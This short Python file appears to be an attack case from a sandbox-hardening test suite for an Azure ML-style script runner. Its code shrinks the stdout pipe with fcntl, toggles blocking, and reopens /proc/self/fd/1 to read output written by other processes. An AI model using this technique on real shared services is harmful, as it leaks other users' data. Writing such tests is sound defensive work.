"""Makes the pipe of its log non-blocking, as small as can be, and reads from it what others wrote."""

import fcntl
import os

from attack import attack, every


def read_back():
    descriptor = os.open("/proc/self/fd/1", os.O_RDONLY | os.O_NONBLOCK)
    print("hostile", flush=True)
    os.read(descriptor, 10)
    os.close(descriptor)
    return ""


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    def smaller():
        fcntl.fcntl(1, 1031, 4096)
        os.set_blocking(1, False)
        os.set_blocking(1, True)
        return ""

    return every(lambda way: way(), [smaller, read_back])
